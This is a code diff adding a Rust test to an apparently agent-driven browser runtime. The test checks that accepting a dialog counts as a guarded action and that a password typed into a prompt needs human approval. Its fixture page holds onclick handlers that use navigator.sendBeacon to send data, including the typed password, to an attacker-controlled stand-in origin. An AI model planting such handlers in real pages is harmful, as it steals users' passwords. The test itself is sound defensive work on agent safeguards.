@@ -1114,3 +1114,115 @@ async fn a_person_sees_the_text_they_approve_typing_but_never_a_secret() {
             .unwrap();
     }
 }
+
+/// Issue 29: answering a dialog armed nothing — a handler that sends a beacon once its
+/// `alert()` is accepted reached the attacker — and text typed into a `prompt()` for a
+/// password was an ordinary write. Answering is judged and guarded like a click; a secret
+/// prompt's answer asks a person every time, even on a trusted origin.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn answering_a_dialog_is_an_action_and_a_password_prompt_is_a_secret() {
+    let env = env("hostile-dialog", true).await;
+    let attacker = FixtureServer::start().await.unwrap();
+    let evil = attacker.origin();
+    env.server.html(
+        "/dialogs.html",
+        format!(
+            r#"<!doctype html><title>Dialogs</title>
+<button onclick="alert('Saved'); navigator.sendBeacon('{evil}/beacon', 'after the alert')">Save</button>
+<button onclick="const p = prompt('Enter your password'); navigator.sendBeacon('{evil}/pw', p)">Unlock</button>"#
+        ),
+    );
+    crate::open(&env.runtime, &env.session, &env.server.url("/dialogs.html"))
+        .await
+        .unwrap();
+    let answer = |o: &protocol::Observation, prompt_text: Option<&str>| {
+        let mut json = serde_json::json!({"type": "dialog", "expected_frame_id": o.frame_id().as_str(), "accept": true, "intent": "t"});
+        if let Some(text) = prompt_text {
+            json["prompt_text"] = serde_json::json!(text);
+        }
+        protocol::validate_extended_action(&json).unwrap()
+    };
+    // The alert: clicking is allowed (trusted origin); accepting it sends the beacon, blocked.
+    let o = crate::observe_until(&env.runtime, &env.session, "Save").await;
+    env.runtime
+        .act(
+            &env.session,
+            None,
+            &click(&o, "Save"),
+            &Default::default(),
+            Duration::ZERO,
+        )
+        .await
+        .unwrap();
+    let o = env
+        .runtime
+        .observe(&env.session, None, &Default::default())
+        .await
+        .unwrap();
+    let accepted = env
+        .runtime
+        .act(
+            &env.session,
+            None,
+            &answer(&o, None),
+            &Default::default(),
+            Duration::ZERO,
+        )
+        .await
+        .unwrap();
+    assert!(
+        accepted.blocked.iter().any(|b| b.origin == evil),
+        "the beacon is judged and blocked: {:?}",
+        accepted.receipt
+    );
+    // The password prompt: answering it asks a person, who declines; nothing is sent.
+    let o = crate::observe_until(&env.runtime, &env.session, "Unlock").await;
+    env.runtime
+        .act(
+            &env.session,
+            None,
+            &click(&o, "Unlock"),
+            &Default::default(),
+            Duration::ZERO,
+        )
+        .await
+        .unwrap();
+    let o = env
+        .runtime
+        .observe(&env.session, None, &Default::default())
+        .await
+        .unwrap();
+    let typed = answer(&o, Some("hunter2-prompt"));
+    let Err(RuntimeError::NeedsApproval { approval_id, .. }) = env
+        .runtime
+        .act(
+            &env.session,
+            None,
+            &typed,
+            &Default::default(),
+            Duration::ZERO,
+        )
+        .await
+    else {
+        panic!("a password typed into a prompt asks a person")
+    };
+    let request = env
+        .runtime
+        .pending_approvals()
+        .into_iter()
+        .find(|r| r.approval_id == approval_id)
+        .unwrap();
+    assert_eq!(request.tier, policy::RiskTier::R3, "{request:?}");
+    assert!(
+        request.text.is_none(),
+        "the secret is not shown: {request:?}"
+    );
+    env.runtime
+        .resolve_approval(&approval_id, ApprovalDecision::Deny)
+        .unwrap();
+    let reached = reached_after_the_window(&attacker).await;
+    assert!(
+        reached.is_empty(),
+        "nothing reached the attacker: {reached:?}"
+    );
+}
